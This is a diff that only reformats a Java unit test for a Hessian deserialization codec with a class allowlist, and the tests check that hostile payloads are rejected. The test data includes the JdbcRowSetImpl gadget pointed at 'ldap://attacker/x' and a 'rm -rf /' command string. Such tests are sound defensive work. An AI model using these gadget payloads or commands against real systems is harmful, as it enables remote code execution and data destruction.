@@ -38,6 +38,7 @@ class HessianCodecTest {
     private static final Set<Class<?>> COMMAND_CLASSES = Set.of(Command.class, Op.class, Compare.class);
     /** The name of a class this test never touches; its static initializer records that it ran. */
     private static final String POISONED = HessianCodecTest.class.getName() + "$Poisoned";
+
     static final AtomicBoolean POISONED_INITIALIZED = new AtomicBoolean();
 
     private final HessianCodec codec = new HessianCodec(COMMAND_CLASSES);
@@ -83,7 +84,9 @@ class HessianCodecTest {
 
     @Test
     void putIfRevisionZeroRoundTripsAsMustBeAbsent() {
-        Compare guard = roundTrip(Command.putIfRevision("config", bytes("k"), bytes("v"), 0)).compares().get(0);
+        Compare guard = roundTrip(Command.putIfRevision("config", bytes("k"), bytes("v"), 0))
+                .compares()
+                .get(0);
 
         assertTrue(guard.onRevision());
         assertEquals(0, guard.expectedModRevision());
@@ -163,7 +166,8 @@ class HessianCodecTest {
 
     @Test
     void classOutsideTheAllowlistIsRejectedBeforeItIsEvenInitialized() {
-        assertNotNull(HessianCodecTest.class.getResource("HessianCodecTest$Poisoned.class"),
+        assertNotNull(
+                HessianCodecTest.class.getResource("HessianCodecTest$Poisoned.class"),
                 "the probe class exists under the name the payload uses");
         byte[] payload = hessian(out -> writeObjectNamed(out, POISONED, Map.of("command", "rm -rf /")));
 
@@ -186,7 +190,8 @@ class HessianCodecTest {
         assertInstanceOf(CodecException.class, thrown);
 
         // control: the same codec decodes the envelope when it holds an allowed object
-        Envelope ok = envelopes.decode(envelopes.encode(new Envelope(Command.delete("config", bytes("k")))), Envelope.class);
+        Envelope ok =
+                envelopes.decode(envelopes.encode(new Envelope(Command.delete("config", bytes("k")))), Envelope.class);
         assertTrue(ok.payload instanceof Command);
     }
 
@@ -194,8 +199,8 @@ class HessianCodecTest {
     void unknownClassNestedInAnAllowedOneIsNotTurnedIntoAMap() {
         // plain Hessian decodes an object of a class it cannot find as a HashMap of its fields
         HessianCodec envelopes = new HessianCodec(Set.of(Envelope.class));
-        byte[] payload = hessian(out -> writeObjectNamed(out, Envelope.class.getName(), orderedMap(
-                "payload", (Writer) o -> writeObjectNamed(o, "com.example.NoSuchClass", Map.of("x", 1)))));
+        byte[] payload = hessian(out -> writeObjectNamed(out, Envelope.class.getName(), orderedMap("payload", (Writer)
+                o -> writeObjectNamed(o, "com.example.NoSuchClass", Map.of("x", 1)))));
 
         Object unrestricted = unrestrictedDecode(payload);
         assertTrue(((Envelope) unrestricted).payload instanceof HashMap, "control: plain Hessian makes a map here");
@@ -207,8 +212,8 @@ class HessianCodecTest {
     @Test
     void wellKnownGadgetClassIsRejected() {
         String gadget = "com.sun.rowset.JdbcRowSetImpl";
-        byte[] payload = hessian(out -> writeObjectNamed(out, gadget, orderedMap(
-                "dataSourceName", "ldap://attacker/x", "autoCommit", true)));
+        byte[] payload = hessian(out ->
+                writeObjectNamed(out, gadget, orderedMap("dataSourceName", "ldap://attacker/x", "autoCommit", true)));
 
         CodecException e = assertThrows(CodecException.class, () -> codec.decode(payload, Command.class));
         assertTrue(messages(e).contains(gadget), messages(e));
@@ -217,8 +222,8 @@ class HessianCodecTest {
     @Test
     void gadgetClassNestedInAnAllowedObjectIsRejected() {
         HessianCodec envelopes = new HessianCodec(Set.of(Envelope.class));
-        byte[] payload = hessian(out -> writeObjectNamed(out, Envelope.class.getName(), orderedMap(
-                "payload", (Writer) o -> writeObjectNamed(o, "com.sun.rowset.JdbcRowSetImpl", Map.of()))));
+        byte[] payload = hessian(out -> writeObjectNamed(out, Envelope.class.getName(), orderedMap("payload", (Writer)
+                o -> writeObjectNamed(o, "com.sun.rowset.JdbcRowSetImpl", Map.of()))));
 
         assertThrows(CodecException.class, () -> envelopes.decode(payload, Envelope.class));
     }
@@ -345,7 +350,8 @@ class HessianCodecTest {
         byte[] string = codec.encode("just a string");
 
         CodecException e = assertThrows(CodecException.class, () -> codec.decode(command, Op.class));
-        assertTrue(e.getMessage().contains(Op.class.getName()) && e.getMessage().contains(Command.class.getName()),
+        assertTrue(
+                e.getMessage().contains(Op.class.getName()) && e.getMessage().contains(Command.class.getName()),
                 e.getMessage());
         assertThrows(CodecException.class, () -> codec.decode(op, Command.class));
         assertThrows(CodecException.class, () -> codec.decode(string, Command.class));
